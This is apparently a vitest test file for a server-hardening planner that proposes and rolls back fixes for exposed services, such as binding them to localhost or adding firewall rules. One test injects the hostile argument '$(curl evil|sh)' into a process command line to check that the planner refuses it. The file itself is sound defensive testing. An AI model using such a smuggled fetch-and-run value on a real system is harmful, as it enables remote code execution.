// Each strategy on the facts of real captured hosts (the demo-fleet replicas of
// the lab scenarios, audited by the engine over SSH), plus hand-built facts for
// the firewall tools and hostile values.
import { execFileSync } from "node:child_process";
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import type { THostAuditResult } from "../audit-types";
import type { THostFacts } from "../facts";
import { hostFacts, socket } from "../rules/testing/facts-factory";
import { planHardening } from "./plan-hardening";
import type { THardeningFinding, TPlannedStep } from "./types";
import { auditLabFleet } from "../rules/testing/lab-fleet";

const TAG = "t3st0001";
let fleet: Map<string, THostAuditResult>;
const factsOf = (scenario: string): THostFacts => {
  const r = fleet.get(scenario);
  if (!r?.ok) throw new Error(`${scenario} not audited`);
  return r.facts;
};
const finding = (ruleId: string, port: number, proto: "tcp" | "udp" = "tcp", address = "0.0.0.0"): THardeningFinding => ({ ruleId, proto, port, address, executable: null });

function plan(scenario: string | THostFacts, f: THardeningFinding, exposure: "INTERNET" | "INTERNAL" = "INTERNAL"): TPlannedStep {
  const r = planHardening({ finding: f, facts: typeof scenario === "string" ? factsOf(scenario) : scenario, exposure, tag: TAG, sshPort: 22 });
  if (!r.ok) throw new Error(`no step: ${r.reason}`);
  return r.step;
}

beforeAll(async () => {
  fleet = await auditLabFleet(["redis-open", "cron-http-server", "node-debug", "udp-memcached", "nginx-http", "firewalled"]);
}, 120_000);

describe("bind to localhost (strategy 1)", () => {
  it("redis-open: edits bind in /etc/redis/redis.conf and restarts redis-server, with an exact rollback", () => {
    const s = plan("redis-open", finding("exposed-unauthenticated-datastore", 6379));
    expect(s.strategy).toBe("BIND_LOCALHOST");
    expect(s.commands).toEqual([
      "test -f '/etc/redis/redis.conf'",
      "mkdir -p -m 700 /var/backups/palisade-t3st0001",
      "mkdir -p '/var/backups/palisade-t3st0001/etc/redis'",
      "cp -a '/etc/redis/redis.conf' '/var/backups/palisade-t3st0001/etc/redis/redis.conf'",
      "sed -i -E 's/^[[:space:]]*bind[[:space:]].*$/bind 127.0.0.1 -::1/' '/etc/redis/redis.conf'",
      "grep -qxF -e 'bind 127.0.0.1 -::1' '/etc/redis/redis.conf' || printf '%s\\n' 'bind 127.0.0.1 -::1' >> '/etc/redis/redis.conf'",
      "systemctl restart 'redis-server.service'",
    ]);
    expect(s.rollbackCommands).toEqual([
      "cp -a '/var/backups/palisade-t3st0001/etc/redis/redis.conf' '/etc/redis/redis.conf'",
      "systemctl restart 'redis-server.service'",
      "rm -rf /var/backups/palisade-t3st0001",
    ]);
    expect(s.verifyCommands[0]).toBe("ss -H -tlnp 'sport = :6379'");
    expect(s.files).toEqual([{ path: "/etc/redis/redis.conf", readCommand: "cat -- '/etc/redis/redis.conf'", state: "not-read", before: null }]);
    expect(s.rationale).toMatch(/reverse proxy is not proposed/i);
  });

  it("the redis step's file commands really work here (coreutils, sed, grep): bind rewritten, rollback byte-identical, backup gone", () => {
    const dir = mkdtempSync(path.join(tmpdir(), "palisade-hardening-"));
    try {
      const conf = path.join(dir, "etc/redis/redis.conf");
      const original = "# bind 192.168.1.100 10.0.0.1\nbind 0.0.0.0\nprotected-mode no\nport 6379\n";
      execFileSync("mkdir", ["-p", path.dirname(conf)]);
      writeFileSync(conf, original);
      const s = plan("redis-open", finding("exposed-unauthenticated-datastore", 6379));
      // Same commands, rooted in the temporary directory; the service restart is the host's business.
      const local = (c: string) => c.replaceAll("/etc/redis", path.join(dir, "etc/redis")).replaceAll("/var/backups", path.join(dir, "var/backups"));
      const runAll = (cs: string[]) => cs.filter((c) => !c.startsWith("systemctl")).forEach((c) => execFileSync("sh", ["-c", local(c)]));
      runAll(s.commands);
      expect(readFileSync(conf, "utf8")).toBe("# bind 192.168.1.100 10.0.0.1\nbind 127.0.0.1 -::1\nprotected-mode no\nport 6379\n");
      runAll(s.rollbackCommands);
      expect(readFileSync(conf, "utf8")).toBe(original);
      expect(existsSync(path.join(dir, "var/backups/palisade-t3st0001"))).toBe(false);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it("cron-http-server: adds --bind 127.0.0.1 to dev's crontab line and restarts the process as dev", () => {
    const s = plan("cron-http-server", finding("bare-http-server", 8000), "INTERNET");
    expect(s.strategy).toBe("BIND_LOCALHOST");
    expect(s.rationale).toContain("dev's crontab line \"@reboot cd /tmp && /usr/bin/python3 -m http.server 8000 >/dev/null 2>&1\"");
    expect(s.commands[1]).toBe("crontab -l -u dev > /var/backups/palisade-t3st0001/crontab.dev");
    expect(s.commands[3]).toBe("crontab -u dev /var/backups/palisade-t3st0001/crontab.dev.new");
    expect(s.commands).toContain(`cd / && setsid -f sh -c 'g=$(systemctl show -p ControlGroup --value cron.service) && for d in /sys/fs/cgroup /sys/fs/cgroup/systemd /sys/fs/cgroup/unified; do [ -w "$d$g/cgroup.procs" ] && echo $$ > "$d$g/cgroup.procs"; done; exec runuser -u dev -- sh -c '\\''cd "$HOME" && cd /tmp && /usr/bin/python3 -m http.server --bind 127.0.0.1 8000 >/dev/null 2>&1'\\''' </dev/null >/dev/null 2>&1`);
    expect(s.rollbackCommands[0]).toBe("crontab -u dev /var/backups/palisade-t3st0001/crontab.dev");
    expect(s.rollbackCommands).toContain(`cd / && setsid -f sh -c 'g=$(systemctl show -p ControlGroup --value cron.service) && for d in /sys/fs/cgroup /sys/fs/cgroup/systemd /sys/fs/cgroup/unified; do [ -w "$d$g/cgroup.procs" ] && echo $$ > "$d$g/cgroup.procs"; done; exec runuser -u dev -- sh -c '\\''cd "$HOME" && cd /tmp && /usr/bin/python3 -m http.server 8000 >/dev/null 2>&1'\\''' </dev/null >/dev/null 2>&1`);
    expect(s.files).toEqual([{ path: "/var/spool/cron/crontabs/dev", readCommand: "crontab -l -u dev", state: "not-read", before: null }]);
  });

  it("the crontab edit rewrites exactly the one line, and fails when the line is not there once", () => {
    const dir = mkdtempSync(path.join(tmpdir(), "palisade-hardening-"));
    try {
      const swap = plan("cron-http-server", finding("bare-http-server", 8000)).commands.find((c) => c.includes("awk"))!.replaceAll("/var/backups/palisade-t3st0001", dir);
      const crontab = "# share build artefacts with the team (temporary!)\n@reboot cd /tmp && /usr/bin/python3 -m http.server 8000 >/dev/null 2>&1\n";
      writeFileSync(path.join(dir, "crontab.dev"), crontab);
      execFileSync("sh", ["-c", swap]);
      expect(readFileSync(path.join(dir, "crontab.dev.new"), "utf8")).toBe(crontab.replace("http.server 8000", "http.server --bind 127.0.0.1 8000"));
      writeFileSync(path.join(dir, "crontab.dev"), "# emptied since the audit\n");
      expect(() => execFileSync("sh", ["-c", swap])).toThrow();
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it("node-debug: a systemd drop-in re-binds --inspect to 127.0.0.1; the rollback removes it", () => {
    const s = plan("node-debug", finding("debug-endpoint-exposed", 9229));
    expect(s.strategy).toBe("BIND_LOCALHOST");
    const dropIn = "/etc/systemd/system/shop-api.service.d/palisade-t3st0001.conf";
    expect(s.commands).toContain(`printf '%s\\n' '# Palisade hardening step: listen on loopback only' '[Service]' 'ExecStart=' 'ExecStart=/usr/bin/node --inspect=127.0.0.1:9229 /srv/shop-api/server.js' > '${dropIn}'`);
    expect(s.commands.slice(-2)).toEqual(["systemctl daemon-reload", "systemctl restart 'shop-api.service'"]);
    expect(s.rollbackCommands[0]).toBe(`rm -f '${dropIn}'`);
    expect(s.files).toEqual([{ path: dropIn, readCommand: `cat -- '${dropIn}'`, state: "absent", before: null }]);
  });

  it("node-debug: applied then rolled back in a real shell, the drop-in directory is as it was, made or not", () => {
    const s = plan("node-debug", finding("debug-endpoint-exposed", 9229));
    const root = mkdtempSync(path.join(tmpdir(), "palisade-dropin-"));
    // The step's own commands, with /etc/systemd/system moved under a temporary root and systemctl a no-op.
    const run = (commands: string[]) => {
      for (const c of commands) execFileSync("sh", ["-c", c.replaceAll("/etc/systemd/system/", `${root}/`).replace(/^systemctl .*/, "true")]);
    };
    const dir = path.join(root, "shop-api.service.d");
    try {
      run(s.commands);
      expect(readdirSync(dir)).toContain("palisade-t3st0001.conf");
      run(s.rollbackCommands);
      expect(existsSync(dir)).toBe(false);

      mkdirSync(dir);
      run(s.commands);
      run(s.rollbackCommands);
      expect(readdirSync(dir)).toEqual([]);
    } finally {
      rmSync(root, { recursive: true, force: true });
    }
  });

  it("udp-memcached: -l 127.0.0.1 and -U 0 in /etc/memcached.conf, for the TCP and the UDP finding", () => {
    for (const proto of ["tcp", "udp"] as const) {
      const s = plan("udp-memcached", finding("exposed-unauthenticated-datastore", 11211, proto));
      expect(s.strategy).toBe("BIND_LOCALHOST");
      expect(s.commands).toContain("sed -i -E 's/^-U[[:space:]].*$/-U 0/' '/etc/memcached.conf'");
      expect(s.commands.at(-1)).toBe("systemctl restart 'memcached.service'");
    }
  });

  it("firewalled: redis is still bound to localhost first, although nftables already drops the port", () => {
    expect(plan("firewalled", finding("datastore-network-exposed", 6379)).strategy).toBe("BIND_LOCALHOST");
  });
});

describe("firewall deny (strategy 2)", () => {
  it("redis-open with an unknown owner on another port: nftables, kept by a unit of the step's own (systemd host); rollback removes both", () => {
    const facts = structuredClone(factsOf("redis-open"));
    const s = plan(facts, finding("exposed-listener-unclassified", 7777));
    expect(s.strategy).toBe("FIREWALL_DENY");
    expect(s.commands).toEqual([
      "test ! -e '/etc/systemd/system/palisade-t3st0001-firewall.service'",
      "test ! -e '/etc/palisade/palisade-t3st0001.nft'",
      "test -d /etc/palisade || { mkdir -p /etc/palisade && : > '/etc/palisade/.palisade-t3st0001-made-this-directory'; }",
      "printf '%s\\n' 'table inet palisade_t3st0001' 'delete table inet palisade_t3st0001' 'table inet palisade_t3st0001 {' '  chain input {' '    type filter hook input priority -10; policy accept;' '    iifname != \"lo\" tcp dport 7777 drop' '  }' '}' > '/etc/palisade/palisade-t3st0001.nft'",
      expect.stringMatching(/^printf '%s\\n' .*'ExecStart=nft -f \/etc\/palisade\/palisade-t3st0001\.nft' 'ExecStop=-nft delete table inet palisade_t3st0001' .* > '\/etc\/systemd\/system\/palisade-t3st0001-firewall\.service'$/),
      "systemctl daemon-reload",
      "systemctl enable --now 'palisade-t3st0001-firewall.service'",
    ]);
    expect(s.commands[4]).toContain("'PartOf=nftables.service'");
    expect(s.verifyCommands).toEqual(["nft list table inet palisade_t3st0001", "systemctl is-enabled 'palisade-t3st0001-firewall.service'", "systemctl is-active 'palisade-t3st0001-firewall.service'"]);
    expect(s.rollbackCommands).toEqual([
      "systemctl disable --now 'palisade-t3st0001-firewall.service'",
      "rm -f '/etc/systemd/system/palisade-t3st0001-firewall.service'",
      "rm -f '/etc/palisade/palisade-t3st0001.nft'",
      "if test -e '/etc/palisade/.palisade-t3st0001-made-this-directory'; then rm -f '/etc/palisade/.palisade-t3st0001-made-this-directory' && rmdir --ignore-fail-on-non-empty /etc/palisade; fi",
      "systemctl daemon-reload",
    ]);
    expect(s.files.map((f) => [f.path, f.state])).toEqual([["/etc/systemd/system/palisade-t3st0001-firewall.service", "absent"], ["/etc/palisade/palisade-t3st0001.nft", "absent"]]);
    expect(s.rationale).toMatch(/^Not bound to localhost: the process owning the port is not visible/);

    // Without systemd as PID 1 there is nothing to keep it: runtime rules, and the step says so.
    facts.toolStates["systemd-services"] = "no-systemd";
    const bare = plan(facts, finding("exposed-listener-unclassified", 7777));
    expect(bare.commands).toEqual([
      "nft add table inet palisade_t3st0001",
      "nft add chain inet palisade_t3st0001 input '{ type filter hook input priority -10; policy accept; }'",
      `nft add rule inet palisade_t3st0001 input 'iifname != "lo" tcp dport 7777 drop'`,
    ]);
    expect(bare.rollbackCommands).toEqual(["nft delete table inet palisade_t3st0001"]);
    expect(bare.expectedAfter).toContain("not kept across a reboot");
  });

  it("uses iptables (and ip6tables for ::) or an active ufw when that is what the host has", () => {
    const { listener, owner } = socket({ address: "::", port: 5000, name: "weird-daemon", pid: 42, cmdline: ["/opt/weird/daemon"], exe: "/opt/weird/daemon" });
    const base = { listeners: [listener], owners: [owner!] };
    const ipt = plan(hostFacts({ ...base, toolStates: { iptables: "ok", "nft-ruleset": "command-not-found" } }), finding("unexpected-listener-process", 5000, "tcp", "::"));
    expect(ipt.commands).toEqual([
      "iptables -I INPUT 1 -p tcp --dport 5000 ! -i lo -m comment --comment palisade-t3st0001 -j DROP",
      "ip6tables -I INPUT 1 -p tcp --dport 5000 ! -i lo -m comment --comment palisade-t3st0001 -j DROP",
    ]);
    expect(ipt.rollbackCommands[0]).toBe("iptables -D INPUT -p tcp --dport 5000 ! -i lo -m comment --comment palisade-t3st0001 -j DROP");
    const kept = plan(hostFacts({ ...base, toolStates: { iptables: "ok", "nft-ruleset": "command-not-found", "systemd-services": "ok" } }), finding("unexpected-listener-process", 5000, "tcp", "::"));
    const unitFile = kept.commands.find((c) => c.endsWith("> '/etc/systemd/system/palisade-t3st0001-firewall.service'"))!;
    for (const t of ["iptables", "ip6tables"]) {
      expect(unitFile).toContain(`'ExecStart=-${t} -D INPUT -p tcp --dport 5000 ! -i lo -m comment --comment palisade-t3st0001 -j DROP' 'ExecStart=${t} -I INPUT 1 -p tcp`);
      expect(unitFile).toContain(`'ExecStop=-${t} -D INPUT -p tcp --dport 5000`);
    }
    expect(unitFile).toContain("'PartOf=netfilter-persistent.service'");
    expect(kept.rollbackCommands[0]).toBe("systemctl disable --now 'palisade-t3st0001-firewall.service'");
    const ufw = plan(hostFacts({ ...base, firewalls: [{ tool: "ufw", active: true, defaultInputPolicy: "deny", rules: [], evidence: ["ufw-status"] }], toolStates: { "nft-ruleset": "ok" } }), finding("unexpected-listener-process", 5000, "tcp", "::"));
    expect(ufw.commands).toEqual(["ufw deny proto tcp to any port 5000"]);
    expect(ufw.rollbackCommands).toEqual(["ufw delete deny proto tcp to any port 5000"]);
    expect(ufw.rationale).toContain("no configuration file Palisade knows sets weird-daemon's listen address");
  });

  it("refuses a hostile command line: the bind is refused with the reason, and nothing of it reaches a command", () => {
    const facts = structuredClone(factsOf("node-debug"));
    const o = facts.owners.find((x) => x.port === 9229)!;
    o.cmdline = ["/usr/bin/node", "--inspect=0.0.0.0:9229", "$(curl evil|sh)"];
    const s = plan(facts, finding("debug-endpoint-exposed", 9229));
    expect(s.strategy).toBe("FIREWALL_DENY");
    expect(s.rationale).toMatch(/refused: the process's command line has an argument with characters that cannot be re-written safely/);
    expect([...s.commands, ...s.rollbackCommands, ...s.verifyCommands].join("\n")).not.toContain("curl");
  });

  it("proposes nothing for the SSH port, and says why", () => {
    const r = planHardening({ finding: finding("ssh-exposed", 22), facts: factsOf("redis-open"), exposure: "INTERNET", tag: TAG, sshPort: 22 });
    expect(r).toEqual({ ok: false, reason: expect.stringMatching(/SSH port .* lock everyone out/) });
  });
});

describe("reverse proxy (strategy 3)", () => {
  it("nginx-http on an internet host: nginx moves to loopback and a TLS + basic-auth server block fronts it", () => {
    const s = plan("nginx-http", finding("plain-http-exposed", 80), "INTERNET");
    expect(s.strategy).toBe("REVERSE_PROXY");
    expect(s.rationale).toMatch(/^Public access is required/);
    expect(s.commands).toContain("sed -i -E 's/^([[:space:]]*listen[[:space:]]+)80([[:space:];])/\\1127.0.0.1:80\\2/' '/etc/nginx/sites-available/default'");
    expect(s.commands.join("\n")).toContain("'        proxy_pass http://127.0.0.1:80;'");
    expect(s.commands.join("\n")).toContain("'    listen 443 ssl;'");
    expect(s.rollbackCommands[0]).toMatch(/^rm -f \/etc\/nginx\/sites-available\/palisade-t3st0001.conf /);
    expect(s.rollbackCommands.at(-2)).toBe("systemctl reload 'nginx.service'");
  });

  it("the same nginx on an internal host is simply bound to localhost", () => {
    expect(plan("nginx-http", finding("plain-http-exposed", 80), "INTERNAL").strategy).toBe("BIND_LOCALHOST");
  });
});

describe("as a non-root audit user", () => {
  it("runs every command through sudo -n, as discovery does", () => {
    const facts = structuredClone(factsOf("redis-open"));
    facts.identity = { uid: 1000, user: "audit", gid: 1000, groups: [] };
    const s = plan(facts, finding("exposed-unauthenticated-datastore", 6379));
    expect(s.commands[0]).toBe(`sudo -n sh -c 'test -f '\\''/etc/redis/redis.conf'\\'''`);
    expect(s.files[0]!.readCommand).toBe(`sudo -n sh -c 'cat -- '\\''/etc/redis/redis.conf'\\'''`);
  });
});
